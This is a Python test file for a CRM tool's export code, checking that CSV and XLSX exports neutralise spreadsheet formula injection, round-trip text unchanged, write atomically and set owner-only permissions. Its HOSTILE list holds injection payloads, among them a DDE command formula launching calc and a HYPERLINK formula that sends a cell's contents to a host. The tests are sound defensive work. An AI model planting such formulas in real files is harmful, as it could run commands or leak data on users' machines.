"""What is exported runs nowhere as a formula, comes back as it was, and is written whole or not at all."""

from __future__ import annotations

import datetime as dt
import io
import json
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crm_tui.domain.errors import Refused
from crm_tui.exchange.neutral import neutralise, restore
from crm_tui.exchange.reading import open_table
from crm_tui.exchange.table import CELL_LIMIT, Row
from crm_tui.exchange.writing import atomic_file, write_csv, write_json_lines, write_xlsx

OUTSIDE = Path(__file__).resolve().parents[2].parent / "shared" / "data"
needs_outside = pytest.mark.skipif(not OUTSIDE.is_dir(), reason="the outside data is not here")
TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
HOSTILE = [
    *(f"{mark}1+1" for mark in TRIGGERS),
    "'=1+1",
    "''=1+1",
    "'",
    "'张伟",
    "''",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://127.0.0.1/?x="&A1,"点我")',
    "+86 138 0013 8000",
    "两行\r\n的格",
    'a "quoted", cell',
    "_x0041_",
]


def cells(path: Path) -> list[tuple[str, ...]]:
    return [row.cells for row in open_table(path).rows() if isinstance(row, Row)]


@given(st.text(alphabet="'=+-@\t\r\n＝＋－＠ a张", max_size=8))
def test_every_text_comes_back_as_it_was(text):
    out = neutralise(text)
    assert restore(out) == text
    assert out[:1] not in TRIGGERS


@pytest.mark.parametrize("text", ["", "张伟", "1=1", "'张伟", " =1", "a@b.cn"])
def test_a_harmless_text_is_left_alone_in_both_directions(text):
    assert neutralise(text) == text
    assert restore(text) == text


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_hostile_texts_survive_the_way_out_and_in(tmp_path, suffix):
    path = tmp_path / f"out.{suffix}"
    write = write_csv if suffix == "csv" else write_xlsx
    rows = [["姓名", text] for text in HOSTILE]
    assert write(path, ["姓名", "=备注"], rows) == len(HOSTILE)
    assert open_table(path).header == ("姓名", "=备注")
    assert cells(path) == [("姓名", text) for text in HOSTILE]


def test_no_cell_of_a_csv_file_starts_a_formula_but_numbers_stay_numbers():
    stream = io.StringIO(newline="")
    write_csv(stream, ["姓名", "金额"], [["=1", -5], ["-2+3", Decimal("-1.50")]], bom=False)
    assert stream.getvalue() == "姓名,金额\r\n'=1,-5\r\n'-2+3,-1.50\r\n"


def test_a_csv_file_starts_with_the_mark_spreadsheets_look_for(tmp_path):
    write_csv(tmp_path / "a.csv", ["姓名"], [])
    write_csv(tmp_path / "b.csv", ["姓名"], [], bom=False)
    assert (tmp_path / "a.csv").read_bytes() == b"\xef\xbb\xbf" + "姓名\r\n".encode()
    assert (tmp_path / "b.csv").read_bytes() == "姓名\r\n".encode()


def test_values_of_every_kind_have_one_form_in_csv_and_workbook(tmp_path):
    at = dt.datetime(2026, 1, 31, 9, 30, tzinfo=dt.UTC)
    row = ["张", None, True, 7, Decimal("1234.50"), 0.25, dt.date(2026, 1, 31), at, "13800138000", 10**17]
    header = [f"列{name}" for name in "一二三四五六七八九十"]
    write_csv(tmp_path / "a.csv", header, [row])
    write_xlsx(tmp_path / "a.xlsx", header, [row])
    tail = ("2026-01-31", "2026-01-31 09:30:00+00:00", "13800138000", "100000000000000000")
    assert cells(tmp_path / "a.csv") == [("张", "", "TRUE", "7", "1234.50", "0.25", *tail)]
    assert cells(tmp_path / "a.xlsx") == [("张", "", "TRUE", "7", "1234.5", "0.25", *tail)]


def test_a_workbook_holds_neither_formula_nor_link(tmp_path):
    write_xlsx(tmp_path / "a.xlsx", ["姓名"], [["=1+1"], ["http://127.0.0.1/"], ["{=SUM(A1)}"]])
    with zipfile.ZipFile(tmp_path / "a.xlsx") as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
        assert not [name for name in package.namelist() if "worksheets/_rels" in name]
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet


def test_a_cell_too_long_for_a_sheet_is_refused_and_leaves_the_old_file(tmp_path):
    path = tmp_path / "a.xlsx"
    path.write_text("old")
    with pytest.raises(Refused) as caught:
        write_xlsx(path, ["姓名"], [["x"], ["长" * (CELL_LIMIT + 1)]])
    assert (caught.value.code, caught.value.details["row"]) == ("export_cell_too_long", 3)
    assert path.read_text() == "old"
    assert [each.name for each in tmp_path.iterdir()] == ["a.xlsx"]


def test_a_failure_half_way_leaves_the_old_file_and_no_other(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("old")

    def rows():
        yield ["张"]
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError, match="No space"):
        write_csv(path, ["姓名"], rows())
    assert path.read_text() == "old"
    assert [each.name for each in tmp_path.iterdir()] == ["a.csv"]


def test_an_exported_file_is_for_its_owner_only(tmp_path):
    write_csv(tmp_path / "a.csv", ["姓名"], [["张"]])
    write_xlsx(tmp_path / "a.xlsx", ["姓名"], [["张"]])
    write_json_lines(tmp_path / "a.jsonl", [{"name": "张"}])
    assert {path.stat().st_mode & 0o777 for path in tmp_path.iterdir()} == {0o600}


def test_a_file_appears_only_when_it_is_whole(tmp_path):
    path = tmp_path / "a.bin"
    with atomic_file(path) as file:
        file.write(b"half")
        assert not path.exists()
        file.write(b" and half")
    assert path.read_bytes() == b"half and half"


def test_json_lines_keep_texts_as_they_are(tmp_path):
    path = tmp_path / "a.jsonl"
    rows = [
        {"name": "=张\n伟", "amount": Decimal("1.50"), "on": dt.date(2026, 1, 31), "none": None},
        {"name": "'"},
    ]
    assert write_json_lines(path, rows) == 2
    first, second = path.read_text(encoding="utf-8").splitlines()
    assert json.loads(first) == {"name": "=张\n伟", "amount": "1.50", "on": "2026-01-31", "none": None}
    assert "张" in first
    assert json.loads(second) == {"name": "'"}


def test_json_lines_take_no_value_they_cannot_say():
    with pytest.raises(TypeError, match="no JSON for set"):
        write_json_lines(io.StringIO(), [{"x": {1}}])


@pytest.mark.outside
@needs_outside
@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_the_hostile_formulas_come_in_as_typed_and_go_round(tmp_path, suffix):
    table = open_table(OUTSIDE / "hostile" / "formula_injection.csv")
    rows = [row.cells for row in table.rows() if isinstance(row, Row)]
    assert [row[0][:2] for row in rows] == ["=c", "@S", "+1", "-2", "=H", "\t=", "＝1"]
    path = tmp_path / f"out.{suffix}"
    (write_csv if suffix == "csv" else write_xlsx)(path, table.header, rows)
    assert cells(path) == rows
